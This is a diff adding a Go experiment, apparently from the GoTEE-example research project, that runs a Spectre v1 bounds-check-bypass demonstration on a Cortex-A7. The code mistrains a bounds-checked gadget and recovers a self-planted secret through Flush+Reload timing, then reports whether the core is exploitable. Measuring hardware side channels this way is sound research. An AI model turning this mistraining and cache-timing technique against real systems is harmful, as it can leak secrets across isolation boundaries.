@@ -0,0 +1,190 @@
+// Copyright (c) The GoTEE authors. All Rights Reserved.
+//
+// Use of this source code is governed by the license
+// that can be found in the LICENSE file.
+
+//go:build tamago && arm
+
+package gotee
+
+import (
+	"math/bits"
+	"unsafe"
+
+	"github.com/usbarmory/tamago/arm"
+
+	"github.com/usbarmory/GoTEE-example/internal/sidechannel"
+	"github.com/usbarmory/GoTEE-example/internal/stats"
+)
+
+const (
+	// probe buffer stride
+	spectreStride = 512
+	// bounds checked array length
+	spectreArrayLen = 16
+	// number of gadget invocations per attempt, one every
+	// spectreTrainRatio is out of bounds
+	spectreCalls = 30
+	// in-bounds (training) invocations per out of bounds one
+	spectreTrainRatio = 6
+	// number of leak attempts per secret byte
+	spectreAttempts = 10
+	// secret placed past the array bound (ground truth)
+	spectreSecret = "GoTEE secret"
+)
+
+// SpectreResult represents the outcome of a Spectre (bounds check bypass)
+// experiment run.
+type SpectreResult struct {
+	// Threshold is the hit/miss classification threshold (in CPU cycles)
+	Threshold float64
+	// Secret is the secret placed past the array bound (ground truth)
+	Secret []byte
+	// Leaked are the recovered secret bytes
+	Leaked []byte
+	// Hits is the number of secret bytes with at least one probe hit
+	Hits int
+	// Correct is the number of correctly recovered bits
+	Correct int
+	// Accuracy is the bit recovery accuracy percentage (~50% when the
+	// core is not vulnerable)
+	Accuracy float64
+
+	// Miss is the calibrated cache miss timing distribution
+	Miss stats.Summary
+	// Leak is the reload timing distribution of the probe entries selected
+	// by the out of bounds secret bytes, after each attack attempt
+	Leak stats.Summary
+	// Margin is the number of CPU cycles by which the secret probe entries
+	// reload faster than a cache miss, due to speculative execution
+	Margin float64
+	// Exploitable reports whether the secret probe entries are, on
+	// median, found in cache and therefore speculatively loaded
+	Exploitable bool
+}
+
+// spectreGadget is the victim bounds checked access, when idx is within size
+// the array element selects the probe buffer entry to load.
+//
+// The array is addressed through an unsafe pointer so that the only bounds
+// check is the victim one, which can be mistrained.
+//
+//go:noinline
+func spectreGadget(array unsafe.Pointer, size *int, probe []byte, idx int) {
+	if idx < *size {
+		accessSink = probe[int(*(*byte)(unsafe.Add(array, idx)))*spectreStride]
+	}
+}
+
+// mistrain invokes the gadget spectreCalls times, training the branch
+// predictor with in-bounds indices before each out of bounds invocation.
+//
+// The index is selected without branches, so that the attacker loop does not
+// itself train the predictor against the out of bounds case.
+func mistrain(array unsafe.Pointer, size *int, probe []byte, training int, malicious int) {
+	for j := spectreCalls - 1; j >= 0; j-- {
+		// delay the bounds check resolution
+		sidechannel.FlushLine((*byte)(unsafe.Pointer(size)))
+
+		// x = training when j%spectreTrainRatio != 0, malicious otherwise
+		x := (j%spectreTrainRatio - 1) &^ 0xffff
+		x = x | x>>16
+		x = training ^ (x & (malicious ^ training))
+
+		spectreGadget(array, size, probe, x)
+	}
+}
+
+func init() {
+	RegisterExperiment(Experiment{
+		Name: "spectre",
+		Help: "Spectre v1 bounds check bypass",
+		Run: func(cpu *arm.CPU, _ CacheTimerConfig) (any, error) {
+			return SpectreDemo(cpu)
+		},
+	})
+}
+
+// SpectreDemo attempts a Spectre (bounds check bypass) attack against a secret
+// placed just past a bounds checked array. The gadget is mistrained with
+// in-bounds indices and then invoked with an out of bounds one, the
+// speculatively loaded secret byte, if any, is recovered through Flush+Reload
+// on a probe buffer.
+//
+// The Cortex-A7 is an in-order core with limited speculation past a pending
+// branch, a bit accuracy near 50% is therefore the expected (negative) result.
+// Whether the core is exploitable is reported by comparing the reload timing
+// of the secret selected probe entries against the cache miss calibration.
+func SpectreDemo(cpu *arm.CPU) (r SpectreResult, err error) {
+	calib, err := RunCacheTimer(cpu, DefaultCacheTimerConfig())
+
+	if err != nil {
+		return
+	}
+
+	logf(LogNormal, "================= Spectre Bounds Check Bypass Demo =================")
+
+	pmu := NewPMU()
+	r.Threshold = calib.Threshold
+	r.Secret = []byte(spectreSecret)
+
+	// the secret immediately follows the array, whose (zero) elements
+	// select probe entry 0 during training
+	buf := make([]byte, spectreArrayLen+len(r.Secret))
+	copy(buf[spectreArrayLen:], r.Secret)
+
+	array := unsafe.Pointer(&buf[0])
+	size := spectreArrayLen
+	probe := make([]byte, 256*spectreStride)
+
+	logf(LogNormal, "Secret %q past the %d byte array bound", r.Secret, spectreArrayLen)
+	logf(LogNormal, "Threshold: %.2f CPU cycles", r.Threshold)
+
+	leak := make([]uint64, 0, spectreAttempts*len(r.Secret))
+
+	for i, secret := range r.Secret {
+		var scores [256]int
+
+		for attempt := 0; attempt < spectreAttempts; attempt++ {
+			flushProbe(probe, spectreStride)
+			mistrain(array, &size, probe, attempt%spectreArrayLen, spectreArrayLen+i)
+			reloadProbe(pmu, probe, spectreStride, r.Threshold, &scores)
+
+			// the secret entry alone is timed on a separate
+			// attempt, as reloadProbe caches all entries
+			flushProbe(probe, spectreStride)
+			mistrain(array, &size, probe, attempt%spectreArrayLen, spectreArrayLen+i)
+			leak = append(leak, uint64(timeReload(pmu, &probe[int(secret)*spectreStride])))
+		}
+
+		// entry 0 is legitimately accessed during training
+		leaked := bestScore(&scores, 0)
+
+		if scores[leaked] > 0 {
+			r.Hits++
+		}
+
+		r.Leaked = append(r.Leaked, leaked)
+		r.Correct += 8 - bits.OnesCount8(leaked^secret)
+
+		logf(LogDebug, "  Byte %2d: leaked %#02x (%d/%d hits), actual %#02x (%q)",
+			i, leaked, scores[leaked], spectreAttempts, secret, secret)
+	}
+
+	r.Accuracy = float64(r.Correct) / float64(8*len(r.Secret)) * 100.0
+
+	r.Miss = calib.Calibration.Miss
+	r.Leak = stats.Summarize(leak)
+	r.Margin = r.Miss.Mean - r.Leak.Mean
+	r.Exploitable = float64(r.Leak.Median) < r.Threshold
+
+	logf(LogNormal, "Cache miss:    mean %.2f median %d CPU cycles", r.Miss.Mean, r.Miss.Median)
+	logf(LogNormal, "Secret entry:  mean %.2f median %d CPU cycles", r.Leak.Mean, r.Leak.Median)
+
+	logf(LogQuiet, "\nSpectre bit accuracy: %d/%d (%.1f%%), %d/%d bytes with probe hits",
+		r.Correct, 8*len(r.Secret), r.Accuracy, r.Hits, len(r.Secret))
+	logf(LogQuiet, "Cortex-A7 exploitable: %v (secret entry reload %.2f CPU cycles faster than a miss)",
+		r.Exploitable, r.Margin)
+
+	return
+}